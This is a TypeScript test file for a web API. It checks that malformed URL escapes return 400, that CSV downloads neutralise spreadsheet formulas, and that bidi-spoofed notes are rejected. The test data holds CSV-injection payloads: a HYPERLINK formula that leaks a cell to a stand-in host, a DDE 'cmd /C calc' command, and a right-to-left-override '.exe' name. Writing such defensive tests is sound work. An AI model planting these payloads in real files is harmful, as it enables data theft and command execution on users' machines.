/**
 * Requests a client can get wrong or forge: a route parameter with a malformed percent-escape is
 * a bad request (400), never a server error with a stack in the log (RFC 3986 §2.1: "%" must be
 * followed by two hexadecimal digits, and the octets must be UTF-8 for decodeURIComponent); a
 * measurement file downloads with every cell a spreadsheet would run as a formula neutralised
 * (OWASP, "CSV Injection": a leading apostrophe before =, +, -, @), numbers left as numbers.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { decide } from '../../api/services/proposals.service';
import { buildApiApp, type ApiClient, type TestApi } from '../helpers/api-app';

let api: TestApi;
let uploadsDir: string;
let designer: ApiClient;
let decidedId: number;
const logged: string[] = [];

beforeAll(async () => {
  uploadsDir = mkdtempSync(join(tmpdir(), 'longtail-request-safety-test-'));
  api = await buildApiApp({ uploadsDir, accounts: ['admin', 'requirements', 'designer'], log: (message) => logged.push(message) });
  const project = await api.createProject(['requirements', 'designer']);
  const spec = await api.createSpec(project.id);
  const decided = await api.createProposal(spec.id);
  await decide(api.dataSource, api.users.designer, decided.id, { kind: 'accept' }, api.ruleSet);
  decidedId = decided.id;
  designer = await api.agentFor('designer');
});

afterAll(async () => {
  await api?.close();
  rmSync(uploadsDir, { recursive: true, force: true });
});

describe('a malformed percent-escape in a route parameter', () => {
  test.each([
    ['GET', '/api/proposals/%E0%A4%A/measurements'],
    ['GET', '/api/proposals/%E0%A4%A'],
    ['GET', '/api/proposals/%zz/netlist.cir'],
    ['GET', '/api/specs/%/versions'],
    ['GET', `/api/proposals/1/measurements/%C3%28/file`],
    ['DELETE', '/api/projects/1/members/%E0%A4%A'],
    ['POST', '/api/proposals/%FF/decision'],
  ])('when %s %s is asked for, then 400 and nothing is logged as a server error', async (method, path) => {
    logged.length = 0;
    const client = method === 'GET' ? designer.get(path) : method === 'POST' ? designer.post(path).send({ kind: 'accept' }) : designer.delete(path);
    const response = await client;
    expect(response.status).toBe(400);
    expect(response.body.code).toBe('malformed-url');
    expect(JSON.stringify(response.body)).not.toMatch(/at .*\.(ts|js):\d+/);
    expect(logged).toEqual([]);
  });
});

describe('measurement file downloads in a spreadsheet', () => {
  test('when a stored file has comment cells a spreadsheet would run, then they come back with a leading apostrophe and the figures unchanged', async () => {
    const content = [
      '# Fernhollow bench,=HYPERLINK("http://x.test/?leak="&A1;"bench"),@SUM(1+1)',
      '#;+cmd|\' /C calc\'!A0;-2+3',
      '# tab\t=1+1',
      'frequency_hz,gain_db',
      '10,-3.5',
      '100,+2',
      '1k,-1e-1',
    ].join('\n');
    const stored = await designer.post(`/api/proposals/${decidedId}/measurements`).attach('file', Buffer.from(content, 'utf8'), { filename: 'bench.csv', contentType: 'text/csv' });
    expect(stored.status, JSON.stringify(stored.body)).toBe(201);

    const response = await designer.get(`/api/proposals/${decidedId}/measurements/${stored.body.id}/file`).expect(200);

    const cells = response.text.split('\n').flatMap((line) => line.split(/[,;\t]/));
    const number = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;
    const formulas = cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[=+\-@]/.test(cell) && !number.test(cell));
    expect(formulas).toEqual([]);
    expect(response.text).toContain(`'=HYPERLINK`);
    expect(response.text).toContain(`'@SUM(1+1)`);
    expect(response.text).toContain(`'+cmd|`);
    expect(response.text).toContain(`'-2+3`);
    expect(response.text).toContain(`'=1+1`);
    // The data rows, numbers a spreadsheet reads as numbers, are as uploaded
    const data = Papa.parse<string[]>(response.text.split('\n').slice(3).join('\n'), { delimiter: ',' }).data;
    expect(data).toEqual([['frequency_hz', 'gain_db'], ['10', '-3.5'], ['100', '+2'], ['1k', '-1e-1']]);
  });

  test('when a measurement note holds a bidi override, then 400 names /note and nothing is stored', async () => {
    const file = Buffer.from('frequency_hz,cmrr_db\n10,80\n20,79\n', 'utf8');
    const response = await designer.post(`/api/proposals/${decidedId}/measurements`).field('note', 'board 3 \u202egnp.exe').attach('file', file, { filename: 'b.csv', contentType: 'text/csv' });
    expect(response.status).toBe(400);
    expect(response.body.details).toEqual([{ path: '/note', message: expect.stringMatching(/U\+202E/) }]);
  });
});
